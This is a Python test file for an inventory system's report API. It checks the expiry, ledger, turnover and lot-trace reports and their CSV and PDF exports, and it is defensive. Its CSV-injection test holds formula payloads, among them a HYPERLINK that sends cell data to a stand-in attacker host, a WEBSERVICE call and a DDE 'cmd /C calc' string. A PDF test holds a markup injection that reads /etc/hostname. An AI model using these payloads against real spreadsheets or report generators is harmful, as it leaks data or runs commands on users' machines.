"""The inventory's reports over the API on both databases: expiry, the period's
ledger, turnover with the ABC class, and a lot's trace, as JSON and CSV."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path

from kernel.actors import Role
from tests.support import inventory_world
from tests.support.inventory_world import World

world = inventory_world.world


def test_expiry_ledger_turnover_and_trace(world: World) -> None:
    today = datetime.now(UTC).date()
    world.receive("VAC-1", "A-SOON", 10, "F-01", (today + timedelta(days=10)).isoformat())
    world.receive("VAC-1", "B-LATE", 5, "F-01", (today + timedelta(days=200)).isoformat())
    world.receive("GLOVE", "G1", 100, "R-01", None)
    world.ok(world.post("/moves/dispatch", {"item": "VAC-1", "quantity": 4}))
    world.ok(world.post("/moves/dispatch", {"item": "GLOVE", "quantity": 60}))
    world.ok(world.post("/moves/transfer", {"item": "VAC-1", "lot_number": "A-SOON",
                                            "from_location": "F-01", "to_location": "F-02",
                                            "quantity": 6}))

    (expiring,) = world.ok(world.get("/reports/expiry", within_days=30))
    assert (expiring["lot_number"], expiring["state"], expiring["days_left"],
            expiring["on_hand"], expiring["locations"]) == ("A-SOON", "expiring", 10, 6, "F-02 (6)")
    rows = list(csv.DictReader(io.StringIO(
        world.get("/reports/expiry", within_days=30, format="csv").text)))
    assert [(r["lot_number"], r["on_hand"]) for r in rows] == [("A-SOON", "6")]

    start = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    end = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    ledger = world.ok(world.get("/reports/ledger", start=start, end=end))
    items = {i["item"]: i for i in ledger["items"]}
    assert (items["GLOVE"]["received"], items["GLOVE"]["dispatched"],
            items["GLOVE"]["closing"]) == (100, 60, 40)
    assert (items["VAC-1"]["received"], items["VAC-1"]["closing"]) == (15, 11)
    assert len(ledger["moves"]) == 6
    assert "# moves" in world.get("/reports/ledger", start=start, end=end, format="csv").text

    turnover = world.ok(world.get("/reports/turnover", start=start, end=end))
    classes = {r["item"]: (r["dispatched"], r["abc"]) for r in turnover["rows"]}
    assert classes == {"GLOVE": (60, "A"), "VAC-1": (4, "B")}
    assert turnover["basis"] == "volume"  # no unit costs: classed by volume
    glove = next(r for r in turnover["rows"] if r["item"] == "GLOVE")
    assert glove["turnover"] > 0 and glove["days_of_cover"] > 0

    lot_id = next(lot["id"] for lot in world.ok(world.get("/lots", item="VAC-1"))
                  if lot["lot_number"] == "A-SOON")
    trace = world.ok(world.get(f"/reports/lots/{lot_id}/trace"))
    assert [m["kind"] for m in trace["trace"]["moves"]] == ["receive", "dispatch", "transfer"]
    assert [(s["zone"], s["end"]) for s in trace["stays"]] == [("FRIDGE", None)]
    assert trace["excursions"] == []
    text = world.get(f"/reports/lots/{lot_id}/trace", format="csv").text
    assert "# zones" in text and "FRIDGE" in text
    world.assert_ledger_equals_balances()


# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), one per field.
FORMULAS = {
    "item_name": '=HYPERLINK("http://evil.invalid/?"&A1,"open")',
    "lot_number": "@SUM(1+1)",
    "reference": "+cmd|' /C calc'!A0",
    "reason": "-2+3 units broken",
    "qc_reason": "=1+2 held for review",
    "sensor_name": "=WEBSERVICE(\"http://evil.invalid\")",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_csv_export_quotes_formulas_and_keeps_negative_numbers(world: World) -> None:
    today = datetime.now(UTC).date()
    world.ok(world.client.patch("/api/v1/items/VAC-1", json={"name": FORMULAS["item_name"]},
                                headers=world.headers(Role.ADMIN)))
    world.ok(world.post("/sensors", {"id": "s-csv", "zone": "FRIDGE",
                                     "name": FORMULAS["sensor_name"]}, Role.ADMIN))
    world.ok(world.post("/moves/receive", {
        "item": "VAC-1", "lot_number": FORMULAS["lot_number"], "quantity": 10,
        "location": "F-01", "expiry": (today + timedelta(days=5)).isoformat(),
        "reference": FORMULAS["reference"]}))
    world.ok(world.post("/moves/adjust", {
        "item": "VAC-1", "lot_number": FORMULAS["lot_number"], "location": "F-01",
        "delta": -3, "reason": FORMULAS["reason"]}, Role.SUPERVISOR))
    lot_id = world.ok(world.get("/lots", item="VAC-1"))[0]["id"]
    world.ok(world.post(f"/lots/{lot_id}/qc-status",
                        {"status": "on_hold", "reason": FORMULAS["qc_reason"]}, Role.SUPERVISOR))
    start = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    end = (datetime.now(UTC) + timedelta(hours=1)).isoformat()
    exports = {
        "moves": world.get("/moves.csv"),
        "ledger": world.get("/reports/ledger", start=start, end=end, format="csv"),
        # Ten days on, the lot is five days past its expiry: days_left is -5.
        "expiry": world.get("/reports/expiry", format="csv",
                            today=(today + timedelta(days=10)).isoformat()),
        "turnover": world.get("/reports/turnover", start=start, end=end, format="csv"),
        "trace": world.get(f"/reports/lots/{lot_id}/trace", format="csv"),
        "zone": world.get("/reports/zones/FRIDGE", Role.SUPERVISOR, start=start, end=end,
                          format="csv"),
    }
    expected = {
        "moves": ["lot_number", "reference", "reason"],
        "ledger": ["lot_number", "reference", "reason"],
        "expiry": ["item_name", "lot_number"],
        "turnover": ["item_name"],
        "trace": ["lot_number", "reference", "reason", "qc_reason"],
    }
    for name, answer in exports.items():
        assert answer.status_code == 200, (name, answer.text)
        cells = _cells(answer.text)
        unsafe = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)
                  and c != "-"]  # a lone "-" (the reports' "none") is no formula
        assert unsafe == [], name
        for field in expected.get(name, []):
            assert "'" + FORMULAS[field] in cells, (name, field)
    expired = next(csv.DictReader(io.StringIO(exports["expiry"].text)))
    assert (expired["days_left"], expired["state"]) == ("-5", "expired")  # still a number
    zone_cells = _cells(exports["zone"].text)
    assert any(c.startswith("'" + FORMULAS["sensor_name"]) for c in zone_cells)


def _pdf_text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout
    return " ".join(text.split())  # lines wrapped where the PDF wraps them, joined


def test_a_zone_name_with_markup_and_chinese_prints_as_written(world: World,
                                                                tmp_path: Path) -> None:
    # reportlab reads Paragraph text as markup: <img src=…> made it open the file or URL.
    name = '<img src="/etc/hostname"/> <para>冷库 一号</para> & <b>'
    world.ok(world.client.patch("/api/v1/zones/FRIDGE", json={"name": name},
                                headers=world.headers(Role.ADMIN)))
    world.ok(world.post("/sensors", {"id": "s-pdf", "zone": "FRIDGE", "name": "温度计 😀"},
                        Role.ADMIN))
    pdf = world.get("/reports/zones/FRIDGE", Role.SUPERVISOR, format="pdf")
    assert pdf.status_code == 200, pdf.text
    text = _pdf_text(pdf.content, tmp_path)
    assert f"zone FRIDGE ({name})" in text
    assert "温度计" in text  # the sensor's name in the header table, in the CJK font
